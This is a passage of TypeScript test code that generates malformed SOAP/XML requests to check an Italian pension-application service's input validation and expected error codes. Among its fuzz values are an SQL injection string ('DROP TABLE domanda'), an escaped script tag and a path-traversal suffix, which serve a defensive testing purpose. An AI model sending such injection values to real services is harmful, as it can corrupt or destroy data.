      const headers: Record<string, string> = ct === null ? {} : { 'Content-Type': ct };
      return { request: { method: 'POST', headers, body }, expect: ['CONTENT_TYPE_NON_VALIDO'] };
    });
  }

  // ------------------------------------------------------------------------------------ schema-invalid
  schemaInvalid(): HostileCase {
    const r = this.rng;
    const form = r.pick([
      'categoria', 'categoria', 'date', 'date', 'date-time', 'cf-persona-format', 'cf-persona-format', 'cf-datore-format', 'riferimento', 'riferimento',
      'duplicate-riferimento', 'too-many-attestazioni', 'missing-element', 'missing-element', 'missing-element', 'extra-element', 'extra-element',
      'foreign-namespace', 'foreign-namespace', 'long-text', 'long-text', 'enumeration', 'pattern', 'swapped-order', 'xsi-type', 'xsi-nil', 'attribute',
      'empty-payload', 'text-in-complex',
    ] as const);
    const S: readonly Code[] = ['SCHEMA_NON_VALIDO'];
    const badDate = r.pick([
      '2026-13-40', '2026-02-30', '2026-00-10', '2026-01-00', '2026-02-29', '26-01-01', '2026/01/01', '2026-1-1', '', 'oggi', '1960-01-01T00:00:00', ' 1960-01-01x',
      `${r.int(1000, 9999)}-${r.int(13, 99)}-${String(r.int(1, 28)).padStart(2, '0')}`, `${r.int(1000, 9999)}-${String(r.int(1, 12)).padStart(2, '0')}-${r.int(32, 99)}`,
    ]);
    const dateField = r.pick(['DataNascita', 'DataDecorrenza', 'Dal']);
    const badDateTime = r.pick(['2026-13-40T00:00:00Z', '2026-11-20', '2026-11-20T25:00:00Z', '2026-11-20T09:60:00Z', '2026-11-20T09:00:61Z', 'now', '2026-11-20 09:00:00', '2026-11-20T09:00:00+25:00', '']);
    const categoria = r.pick(['J', 'K', 'N', 'O', 'Z', 'a', '', 'AA', ' A', 'A ', '1', 'Ä', `${r.string(1, 'JKNOPQRSTUVWXYZ')}`]);
    const cfMutations = ['drop', 'add', 'lower', 'digit-for-letter', 'letter-for-digit', 'symbol', 'empty', 'space', 'month-letter'] as const;
    const cfMutation = r.pick(cfMutations);
    const cfPos = r.int(0, 15);
    const riferimento = r.pick(['0', '-1', '-50', '51', '52', '100', '1000', '99999999999999999999999', '1.0', '1.5', 'abc', '', 'I', '0x1', '+-1', '\u0663', '1e1']);
    const missing = r.pick(REQUIRED);
    const extraName = `Extra${r.ncname(10)}`;
    const extraNs = r.pick(['ist', 'com', 'esi', 'random', 'none']);
    const extraAt = r.next();
    const movedName = r.pick(INNER);
    const movedTo = r.pick(['com', 'esi', 'pac', 'soap', 'random', 'default-none', 'default-other']);
    const longField = r.pick(['Denominazione', 'Denominazione', 'Cognome', 'Nome']);
    const longLength = r.pick([201, 250, 1_000, 10_000, r.int(201, 20_000)]);
    const enumField = r.pick(['TipoDomanda', 'TipoAttestazione']);
    const enumValue = r.pick(['APE', 'ape_sociale', 'PRECOCI ', '', 'DATORE_PRIVATO', 'X'.repeat(40), r.ncname(12)]);
    const patternCase = r.pick([
      ['ProfessioneIstat', r.pick(['0.1', '6.1.2.1.0.0', '6..1', 'sei', '6.123', ''])],
      ['Ccnl', r.pick(['f012', 'F0', 'F012345678', 'F-12', ''])],
      ['VoceTariffa', r.pick(['311', '31100', 'abcd', ''])],
      ['MatricolaInps', r.pick(['123456789', '12345678901', '12345abcde', ''])],
      ['PatInail', r.pick(['1234567', '12345678901', 'abcdefgh', ''])],
      ['Livello', r.pick(['x'.repeat(31), '', '   '])],
      ['ProtocolloDomanda', r.pick(['inps.x.0001', 'A', 'AB', `INPS.${'X'.repeat(40)}`, 'INPS X 0001', '.INPS.0001', 'INPS_X_0001'])],
    ] as const);
    const count = r.int(51, 60);
    const dup = r.int(2, 8);
    const xsiType = r.pick(['xs:string', 'xs:int', 'com:Testo', 'ist:Periodo']);
    const textInComplex = r.pick(['Richiedente', 'Attestazione', 'DatoreLavoro', 'Periodo']);
    const repro = ((): string => {
      switch (form) {
        case 'categoria':
          return `Categoria ${JSON.stringify(categoria)}`;
        case 'date':
          return `${dateField} ${JSON.stringify(badDate)}`;
        case 'date-time':
          return `DataPresentazione ${JSON.stringify(badDateTime)}`;
        case 'cf-persona-format':
        case 'cf-datore-format':
          return `${form} mutation ${cfMutation} at ${cfPos}`;
        case 'riferimento':
          return `Riferimento ${JSON.stringify(riferimento)}`;
        case 'duplicate-riferimento':
          return `Attestazione repeated ${dup} times with Riferimento 1`;
        case 'too-many-attestazioni':
          return `${count} Attestazioni (max 50)`;
        case 'missing-element':
          return `without ${missing}`;
        case 'extra-element':
          return `extra element ${extraNs}:${extraName}`;
        case 'foreign-namespace':
          return `${movedName} moved to ${movedTo}`;
        case 'long-text':
          return `${longField} of ${longLength} characters`;
        case 'enumeration':
          return `${enumField} ${JSON.stringify(enumValue)}`;
        case 'pattern':
          return `${patternCase[0]} ${JSON.stringify(patternCase[1])}`;
        case 'xsi-type':
          return `xsi:type="${xsiType}" on Categoria J`;
        case 'text-in-complex':
          return `text inside ${textInComplex}`;
        default:
          return form;
      }
    })();
    return this.make('schema-invalid', `schema:${form}`, repro, (prot) => {
      const e = (m: (p: string) => string): Built => ({ request: post(this.envelope(prot, m)), expect: S });
      switch (form) {
        case 'categoria':
          return e((p) => CaseFactory.setText(p, 'Categoria', categoria));
        case 'date':
          return e((p) => CaseFactory.setText(p, dateField, badDate));
        case 'date-time':
          return e((p) => CaseFactory.setText(p, 'DataPresentazione', badDateTime));
        case 'cf-persona-format':
          return e((p) => CaseFactory.setText(p, 'CodiceFiscale', this.badCf(this.cfRichiedente, cfMutation, cfPos), 1));
        case 'cf-datore-format':
          return e((p) => CaseFactory.setText(p, 'CodiceFiscale', this.badCf(this.cfDatore, cfMutation, cfPos), 2));
        case 'riferimento':
          return e((p) => CaseFactory.setText(p, 'Riferimento', riferimento));
        case 'duplicate-riferimento':
          return e((p) => {
            const a = CaseFactory.element(p, 'Attestazione')!;
            const block = p.slice(a.start, a.end);
            return p.slice(0, a.end) + block.repeat(dup - 1) + p.slice(a.end);
          });
        case 'too-many-attestazioni':
          return e((p) => {
            const a = CaseFactory.element(p, 'Attestazione')!;
            const block = p.slice(a.start, a.end);
            let all = '';
            for (let i = 1; i <= count; i++) all += CaseFactory.setText(block, 'Riferimento', String(i));
            return p.slice(0, a.start) + all + p.slice(a.end);
          });
        case 'missing-element':
          return e((p) => {
            const { name, nth } = CaseFactory.nameOf(missing);
            const m = CaseFactory.element(p, name, nth)!;
            return p.slice(0, m.start) + p.slice(m.end);
          });
        case 'extra-element':
          return e((p) => {
            const closes = [...p.matchAll(/<\/ist:[A-Za-z]+>/g)];
            const c = closes[Math.floor(extraAt * closes.length)]!;
            const el =
              extraNs === 'random' ? `<x:${extraName} xmlns:x="urn:fuzz:${extraName}">v</x:${extraName}>`
              : extraNs === 'none' ? `<${extraName} xmlns="">v</${extraName}>`
              : `<${extraNs}:${extraName}>v</${extraNs}:${extraName}>`;
            return p.slice(0, c.index) + el + p.slice(c.index);
          });
        case 'foreign-namespace':
          return e((p) => {
            const { name, nth } = CaseFactory.nameOf(movedName);
            const m = CaseFactory.element(p, name, nth)!;
            const inner = p.slice(m.start + `<ist:${name}>`.length, m.end - `</ist:${name}>`.length);
            const moved =
              movedTo === 'random' ? `<q:${name} xmlns:q="urn:fuzz:${name.toLowerCase()}">${inner}</q:${name}>`
              : movedTo === 'default-none' ? `<${name} xmlns="">${inner}</${name}>`
              : movedTo === 'default-other' ? `<${name} xmlns="${NS.com}">${inner}</${name}>`
              : `<${movedTo}:${name}>${inner}</${movedTo}:${name}>`;
            return p.slice(0, m.start) + moved + p.slice(m.end);
          });
        case 'long-text':
          return e((p) => CaseFactory.setText(p, longField, 'D'.repeat(longLength)));
        case 'enumeration':
          return e((p) => CaseFactory.setText(p, enumField, enumValue));
        case 'pattern':
          return e((p) => CaseFactory.setText(p, patternCase[0], patternCase[1]));
        case 'swapped-order':
          return e((p) => p.replace(/(<ist:Cognome>[^<]*<\/ist:Cognome>)(<ist:Nome>[^<]*<\/ist:Nome>)/, '$2$1'));
        case 'xsi-type':
          return e((p) =>
            p.replace('<ist:Categoria>A</ist:Categoria>', `<ist:Categoria xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xs="http://www.w3.org/2001/XMLSchema" xsi:type="${xsiType}">J</ist:Categoria>`),
          );
        case 'xsi-nil':
          return e((p) => p.replace('<ist:Cognome>Rossi</ist:Cognome>', '<ist:Cognome xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true"/>'));
        case 'attribute':
          return e((p) => p.replace('<ist:PresentaDomanda>', `<ist:PresentaDomanda id="${r.ncname(6)}">`));
        case 'empty-payload':
          return e(() => '<ist:PresentaDomanda/>');
        case 'text-in-complex':
          return e((p) => p.replace(`<ist:${textInComplex}>`, `<ist:${textInComplex}>testo libero`));
      }
    });
  }

  /** A codice fiscale that matches neither XSD pattern. */
  private badCf(valid: string, mutation: string, pos: number): string {
    const p = pos % valid.length;
    const candidates: Record<string, () => string> = {
      drop: () => valid.slice(0, p) + valid.slice(p + 1),
      add: () => `${valid.slice(0, p)}A${valid.slice(p)}`,
      lower: () => valid.toLowerCase(),
      'digit-for-letter': () => valid.replace(/[A-Z]/, '7'),
      'letter-for-digit': () => valid.replace(/[0-9]/, 'K'),
      symbol: () => `${valid.slice(0, p)}-${valid.slice(p + 1)}`,
      empty: () => '',
      space: () => ` ${valid}`,
      'month-letter': () => (valid.length === 16 ? `${valid.slice(0, 8)}Z${valid.slice(9)}` : `${valid.slice(0, 5)}Z${valid.slice(6)}`),
    };
    let out = (candidates[mutation] ?? candidates.drop!)();
    if (CF_PERSONA.test(out) || CF_DATORE.test(out)) out = `${out}X`;
    if (CF_PERSONA.test(out) || CF_DATORE.test(out)) out = '?';
    return out;
  }

  // ------------------------------------------------------------------------------------ codice fiscale
  codiceFiscale(): HostileCase {
    const r = this.rng;
    const which = r.pick(['richiedente', 'richiedente', 'datore', 'both'] as const);
    const letter = r.pick([...'ABCDEFGHIJKLMNOPQRSTUVWXYZ'].filter((c) => c !== this.cfRichiedente.slice(-1)));
    const digit = r.pick([...'0123456789'].filter((c) => c !== this.cfDatore.slice(-1)));
    const cfR = this.cfRichiedente.slice(0, 15) + letter;
    const cfD = this.cfDatore.slice(0, 10) + digit;
    const repro = which === 'richiedente' ? `Richiedente CF ${cfR}` : which === 'datore' ? `DatoreLavoro CF ${cfD}` : `Richiedente CF ${cfR} and DatoreLavoro CF ${cfD}`;
    return this.make('codice-fiscale', `cf:${which}`, repro, (prot) => ({
      request: post(
        this.envelope(prot, (p) => {
          let q = p;
          if (which !== 'datore') q = CaseFactory.setText(q, 'CodiceFiscale', cfR, 1);
          if (which !== 'richiedente') q = CaseFactory.setText(q, 'CodiceFiscale', cfD, 2);
          return q;
        }),
      ),
      expect: ['CODICE_FISCALE_NON_VALIDO'],
    }));
  }

  // ---------------------------------------------------------------------------------------- incoherent
  incoherent(): HostileCase {
    const r = this.rng;
    const form = r.pick(['al-before-dal', 'al-before-dal', 'al-before-dal', 'nascita-after-presentazione', 'dal-after-presentazione', 'domestico-categoria-a'] as const);
    const y = (a: number, b: number) => `${r.int(a, b)}-${String(r.int(1, 12)).padStart(2, '0')}-${String(r.int(1, 28)).padStart(2, '0')}`;
    const dal = y(2005, 2020);
    const al = y(1980, Number(dal.slice(0, 4)) - 1);
    const future = y(2030, 2090);
    const repro = form === 'al-before-dal' ? `Periodo Dal ${dal} Al ${al}` : form === 'domestico-categoria-a' ? 'TipoAttestazione DATORE_DOMESTICO with Categoria A' : `${form} ${future}`;
    return this.make('incoherent', `incoherent:${form}`, repro, (prot) => ({
      request: post(
        this.envelope(prot, (p) => {
          switch (form) {
            case 'al-before-dal':
              return p.replace(/<ist:Dal>[^<]*<\/ist:Dal>/, `<ist:Dal>${dal}</ist:Dal><ist:Al>${al}</ist:Al>`);
            case 'nascita-after-presentazione':
              return CaseFactory.setText(p, 'DataNascita', future);
            case 'dal-after-presentazione':
              return CaseFactory.setText(p, 'Dal', future);
            case 'domestico-categoria-a':
              return CaseFactory.setText(p, 'TipoAttestazione', 'DATORE_DOMESTICO');
          }
        }),
      ),
      expect: ['DATI_INCOERENTI'],
    }));
  }

  // ------------------------------------------------------------------------------------- extreme dates
  /** Dates the XSD accepts (xs:date allows years beyond 9999 and before year 1) but no domanda can carry. */
  extremeDates(): HostileCase {
    const r = this.rng;
    const field = r.pick(['DataNascita', 'DataDecorrenza', 'Dal', 'Al', 'DataPresentazione'] as const);
    const year = r.pick([String(r.int(10_000, 99_999)), String(r.int(100_000, 9_999_999)), `-${String(r.int(1, 9_999)).padStart(4, '0')}`, '-0001', `-${r.int(10_000, 99_999)}`]);
    const value = field === 'DataPresentazione' ? `${year}-06-15T10:00:00Z` : `${year}-06-15`;
    return this.make('extreme-dates', `extreme-date:${field}`, `${field} ${value}`, (prot) => ({
      request: post(
        this.envelope(prot, (p) =>
          field === 'Al' ? p.replace(/<ist:Dal>([^<]*)<\/ist:Dal>/, `<ist:Dal>$1</ist:Dal><ist:Al>${value}</ist:Al>`) : CaseFactory.setText(p, field, value),
        ),
      ),
      expect: ['DATI_INCOERENTI', 'SCHEMA_NON_VALIDO'],
    }));
  }

  // --------------------------------------------------------------------------------- unknown operation
  unknownOperation(): HostileCase {
    const r = this.rng;
    const form = r.pick([
      'random-element', 'random-element', 'random-element', 'other-contract', 'other-contract', 'notifica-esito', 'notifica-esito', 'domanda-wrong-namespace',
      'soap12', 'soap12', 'two-body-children', 'two-body-children', 'no-body', 'empty-envelope', 'empty-body', 'text-body', 'comment-body', 'header-after-body',
      'two-headers', 'two-bodies', 'root-not-envelope', 'envelope-random-namespace', 'envelope-no-namespace', 'trailing-envelope-child', 'soap-action-mismatch',
      'undeclared-prefix', 'fault-as-request',
    ] as const);
    let ns = r.pick(['', NS.ist, NS.com, NS.esi, NS.pac, NS.soap, `urn:fuzz:${r.ncname(8)}`, `http://evil.example/${r.ncname(6)}`]);
    let local = r.ncname(20);
    if (ns === NS.ist && (local === 'PresentaDomanda' || local === 'StatoIstruttoria')) local = `${local}X`;
    if (ns === NS.soap) ns = `urn:fuzz:${local}`;
    const content = r.ncname(10);
    const other = r.pick(['esi:NotificaAccertamento', 'pac:VerificaPacchetto', 'pac:SollecitaEsito', 'pac:SegnalaCaso', 'pac:NotificaRiscontro', 'ist:PresentaDomandaRisposta', 'ist:StatoIstruttoriaRisposta', 'com:ErroreApe', 'com:Operatore', 'esi:NotificaEsitoRisposta']);
    const wrongNs = r.pick([NS.com, NS.esi, NS.pac, 'urn:it:ape-precoci:istruttoria:v2', 'urn:it:ape-precoci:istruttoria:v1 ', 'URN:IT:APE-PRECOCI:ISTRUTTORIA:V1']);
    const action = r.pick(['urn:it:ape-precoci:istruttoria:v1:StatoIstruttoria', 'urn:it:ape-precoci:esiti:v1:NotificaEsito', 'PresentaDomanda', `urn:fuzz:${r.ncname(8)}`, '"x"']);
    const uuid = [r.string(8, '0123456789abcdef'), r.string(4, '0123456789abcdef'), `4${r.string(3, '0123456789abcdef')}`, `a${r.string(3, '0123456789abcdef')}`, r.string(12, '0123456789abcdef')].join('-');
    const repro =
      form === 'random-element' ? `Body payload {${ns}}${local}`
      : form === 'other-contract' ? `Body payload ${other}`
      : form === 'domanda-wrong-namespace' ? `PresentaDomanda in namespace ${JSON.stringify(wrongNs)}`
      : form === 'soap-action-mismatch' ? `valid domanda with SOAPAction ${JSON.stringify(action)}`
      : form;
    const SOAP_BAD: readonly Code[] = ['SOAP_NON_VALIDO'];
    const UNKNOWN: readonly Code[] = ['OPERAZIONE_SCONOSCIUTA'];
    return this.make('unknown-operation', `unknown-op:${form}`, repro, (prot) => {
      const dom = this.payload(prot);
      const env = (body: string) => post(rawEnvelope(OPERATORE, body));
      const open = `<soap:Envelope xmlns:soap="${NS.soap}" xmlns:com="${NS.com}" xmlns:ist="${NS.ist}">`;
      switch (form) {
        case 'random-element':
          return {
            request: env(ns === '' ? `<${local}><Campo>${content}</Campo></${local}>` : `<q:${local} xmlns:q="${ns}"><q:Campo>${content}</q:Campo></q:${local}>`),
            expect: UNKNOWN,
          };
        case 'other-contract':
          return { request: env(`<${other}><${other.split(':')[0]}:Campo>1</${other.split(':')[0]}:Campo></${other}>`), expect: UNKNOWN };
        case 'notifica-esito':
          return {
            request: env(
              writeNotificaEsito({ idPacchetto: uuid, ente: 'ANPAL', dataEsito: this.ctx.presentazione, esitiDato: [{ riferimento: 1, dato: 'RAPPORTO_DI_LAVORO', esito: 'CONFORME' }] }).text,
            ),
            expect: UNKNOWN,
          };
        case 'domanda-wrong-namespace':
          return { request: env(dom.replace('<ist:PresentaDomanda>', `<ist:PresentaDomanda xmlns:ist="${wrongNs}">`)), expect: UNKNOWN };
        case 'soap12':
          return {
            request: post(`${XML_DECL}<e:Envelope xmlns:e="${NS.soap12}" xmlns:com="${NS.com}" xmlns:ist="${NS.ist}"><e:Header>${OPERATORE}</e:Header><e:Body>${dom}</e:Body></e:Envelope>`, { SOAPAction: '' }),
            expect: SOAP_BAD,
          };
        case 'two-body-children':
          return { request: env(dom + r.pick([dom, '<ist:StatoIstruttoria><ist:ProtocolloDomanda>INPS.X.000001</ist:ProtocolloDomanda></ist:StatoIstruttoria>', `<q:${local} xmlns:q="urn:fuzz"/>`])), expect: SOAP_BAD };
        case 'no-body':
          return { request: post(`${XML_DECL}${open}<soap:Header>${OPERATORE}</soap:Header></soap:Envelope>`), expect: SOAP_BAD };
        case 'empty-envelope':
          return { request: post(`${XML_DECL}<soap:Envelope xmlns:soap="${NS.soap}"/>`), expect: SOAP_BAD };
        case 'empty-body':
          return { request: env(''), expect: SOAP_BAD };
        case 'text-body':
          return { request: env('PresentaDomanda'), expect: SOAP_BAD };
        case 'comment-body':
          return { request: env(`<!--${dom.replace(/--/g, '')}-->`), expect: SOAP_BAD };
        case 'header-after-body':
          return { request: post(`${XML_DECL}${open}<soap:Body>${dom}</soap:Body><soap:Header>${OPERATORE}</soap:Header></soap:Envelope>`), expect: SOAP_BAD };
        case 'two-headers':
          return { request: post(`${XML_DECL}${open}<soap:Header>${OPERATORE}</soap:Header><soap:Header/><soap:Body>${dom}</soap:Body></soap:Envelope>`), expect: SOAP_BAD };
        case 'two-bodies':
          return { request: post(`${XML_DECL}${open}<soap:Header>${OPERATORE}</soap:Header><soap:Body>${dom}</soap:Body><soap:Body/></soap:Envelope>`), expect: SOAP_BAD };
        case 'root-not-envelope':
          return { request: post(`${XML_DECL}${dom.replace('<ist:PresentaDomanda>', `<ist:PresentaDomanda xmlns:ist="${NS.ist}">`)}`), expect: SOAP_BAD };
        case 'envelope-random-namespace':
          return { request: post(rawEnvelope(OPERATORE, dom).replace(`xmlns:soap="${NS.soap}"`, `xmlns:soap="urn:fuzz:${local}"`)), expect: SOAP_BAD };
        case 'envelope-no-namespace':
          return { request: post(`${XML_DECL}<Envelope xmlns:com="${NS.com}" xmlns:ist="${NS.ist}"><Header>${OPERATORE}</Header><Body>${dom}</Body></Envelope>`), expect: SOAP_BAD };
        case 'trailing-envelope-child':
          return { request: post(rawEnvelope(OPERATORE, dom).replace('</soap:Envelope>', `<q:Coda xmlns:q="urn:fuzz"/></soap:Envelope>`)), expect: SOAP_BAD };
        case 'soap-action-mismatch':
          return { request: post(rawEnvelope(OPERATORE, dom), { SOAPAction: action }), expect: UNKNOWN };
        case 'undeclared-prefix':
          return { request: env(dom.replace(/ist:PresentaDomanda/g, 'zz:PresentaDomanda')), expect: ['OPERAZIONE_SCONOSCIUTA', 'XML_MALFORMATO'] };
        case 'fault-as-request':
          return { request: env('<soap:Fault><faultcode>soap:Client</faultcode><faultstring>x</faultstring></soap:Fault>'), expect: UNKNOWN };
      }
    });
  }

  // ------------------------------------------------------------------------------------------- methods
  method(): HostileCase {
    const r = this.rng;
    const m = r.pick(['PUT', 'PUT', 'DELETE', 'DELETE', 'PATCH', 'PATCH', 'OPTIONS', 'GET', 'GET', 'GET'] as const);
    const query = r.pick(['', '', '?', '?wsdl=1', '?xsd', '?wsdl&x=1', '?%77sdl', '?wsd', `?${r.ncname(6)}`, '?wsdl#frag'.replace('#frag', '%23')]);
    const suffix = m === 'GET' ? r.pick(['', '', '', '/', '/x', '/../istruttoria']) : '';
    const withBody = r.chance(0.6);
    return this.make('method', `method:${m}`, `${m} /ape/istruttoria${suffix}${query}${withBody ? ' with a valid domanda as body' : ''}`, (prot) => {
      const base = '/ape/istruttoria';
      const path = `${base}${suffix}${query}`;
      const headers: Record<string, string> = withBody ? { ...TEXT_XML } : {};
      const request: HostileRequest = { method: m, path, headers, ...(withBody ? { body: this.envelope(prot) } : {}) };
      const normalised = new URL(path, 'https://x').pathname;
      const expect: readonly Code[] = m !== 'GET' ? ['METODO_NON_AMMESSO'] : normalised === base ? ['METODO_NON_AMMESSO'] : ['OPERAZIONE_SCONOSCIUTA'];
      return { request, expect };
    });
  }

  // ------------------------------------------------------------------------------------------ operatore
  operatore(): HostileCase {
    const r = this.rng;
    const form = r.pick([
      'no-header', 'no-header', 'empty-header', 'unrelated-blocks', 'wrong-namespace', 'wrong-namespace', 'no-namespace', 'missing-id', 'missing-ufficio',
      'empty-operatore', 'bad-id', 'bad-id', 'bad-id', 'bad-ufficio', 'bad-ufficio', 'extra-child', 'children-wrong-namespace', 'swapped-children',
      'too-many-blocks', 'text-only', 'xsi-nil', 'operatore-in-body', 'two-operatori',
    ] as const);
    const id = r.pick(['', ' ', 'a b', '-abc', '.x', 'x'.repeat(65), 'àèì', 'op\ttab', "x';DROP TABLE domanda;--", 'op/1', 'op#1', '&lt;script&gt;', r.string(r.int(65, 300))]);
    const ufficio = r.pick(['', '   ', 'U'.repeat(201), `${'U '.repeat(150)}U`]);
    const wrongNs = r.pick([NS.ist, NS.esi, NS.pac, `urn:fuzz:${r.ncname(6)}`, 'urn:it:ape-precoci:comune:v2', 'urn:it:ape-precoci:comune:V1']);
    const blocks = r.int(33, 60);
    const repro =
      form === 'bad-id' ? `IdOperatore ${JSON.stringify(id)}`
      : form === 'bad-ufficio' ? `Ufficio of ${ufficio.length} characters ${JSON.stringify(ufficio.slice(0, 10))}`
      : form === 'wrong-namespace' ? `Operatore in ${wrongNs}`
      : form === 'too-many-blocks' ? `${blocks} header blocks (max 32)`
      : form === 'two-operatori' ? 'two com:Operatore blocks naming different operators'
      : form;
    const op = (idOp: string, uff: string) => `<com:Operatore><com:IdOperatore>${idOp}</com:IdOperatore><com:Ufficio>${uff}</com:Ufficio></com:Operatore>`;
    const ASSENTE: readonly Code[] = ['OPERATORE_ASSENTE'];
    const S: readonly Code[] = ['SCHEMA_NON_VALIDO'];
    return this.make('operatore', `operatore:${form}`, repro, (prot) => {
      const dom = this.payload(prot);
      const withHeaders = (h: string | null) =>
        post(h === null ? `${XML_DECL}<soap:Envelope xmlns:soap="${NS.soap}" xmlns:com="${NS.com}" xmlns:ist="${NS.ist}"><soap:Body>${dom}</soap:Body></soap:Envelope>` : rawEnvelope(h, dom));
      switch (form) {
        case 'no-header':
          return { request: withHeaders(null), expect: ASSENTE };
        case 'empty-header':
          return { request: withHeaders(''), expect: ASSENTE };
        case 'unrelated-blocks':
          return { request: withHeaders(`<q:Traccia xmlns:q="urn:fuzz:${r.ncname(5)}">x</q:Traccia><q:Altro xmlns:q="urn:fuzz">y</q:Altro>`), expect: ASSENTE };
        case 'wrong-namespace':
          return { request: withHeaders(`<o:Operatore xmlns:o="${wrongNs}"><o:IdOperatore>INPS-OP-TEST</o:IdOperatore><o:Ufficio>Sede</o:Ufficio></o:Operatore>`), expect: ['OPERATORE_ASSENTE', 'SCHEMA_NON_VALIDO'] };
        case 'no-namespace':
          return { request: withHeaders('<Operatore xmlns=""><IdOperatore>INPS-OP-TEST</IdOperatore><Ufficio>Sede</Ufficio></Operatore>'), expect: ['OPERATORE_ASSENTE', 'SCHEMA_NON_VALIDO'] };
        case 'missing-id':
          return { request: withHeaders('<com:Operatore><com:Ufficio>Sede</com:Ufficio></com:Operatore>'), expect: S };
        case 'missing-ufficio':
          return { request: withHeaders('<com:Operatore><com:IdOperatore>INPS-OP-TEST</com:IdOperatore></com:Operatore>'), expect: S };
        case 'empty-operatore':
          return { request: withHeaders('<com:Operatore/>'), expect: S };
        case 'bad-id':
          return { request: withHeaders(op(id, 'Sede di test')), expect: S };
        case 'bad-ufficio':
          return { request: withHeaders(op('INPS-OP-TEST', ufficio)), expect: S };
        case 'extra-child':
          return { request: withHeaders('<com:Operatore><com:IdOperatore>INPS-OP-TEST</com:IdOperatore><com:Ufficio>Sede</com:Ufficio><com:Ruolo>admin</com:Ruolo></com:Operatore>'), expect: S };
        case 'children-wrong-namespace':
          return { request: withHeaders('<com:Operatore><ist:IdOperatore>INPS-OP-TEST</ist:IdOperatore><ist:Ufficio>Sede</ist:Ufficio></com:Operatore>'), expect: S };
        case 'swapped-children':
          return { request: withHeaders('<com:Operatore><com:Ufficio>Sede</com:Ufficio><com:IdOperatore>INPS-OP-TEST</com:IdOperatore></com:Operatore>'), expect: S };
        case 'too-many-blocks':
          return { request: withHeaders(OPERATORE + '<q:B xmlns:q="urn:fuzz"/>'.repeat(blocks - 1)), expect: S };
        case 'text-only':
          return { request: withHeaders('<com:Operatore>INPS-OP-TEST</com:Operatore>'), expect: S };
        case 'xsi-nil':
          return { request: withHeaders('<com:Operatore xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true"/>'), expect: S };
        case 'operatore-in-body':
          return { request: post(rawEnvelope('', OPERATORE + dom)), expect: ['OPERATORE_ASSENTE', 'SCHEMA_NON_VALIDO', 'SOAP_NON_VALIDO'] };
        case 'two-operatori':
          // Which operator caused the call? The convenzione wants one identifier per call, traceable afterwards.
          return { request: withHeaders(op('INPS-OP-TEST', 'Sede di test') + op('INPS-OP-ALTRO', 'Altra sede')), expect: ['OPERATORE_ASSENTE', 'SCHEMA_NON_VALIDO'] };
      }
    });
  }
}
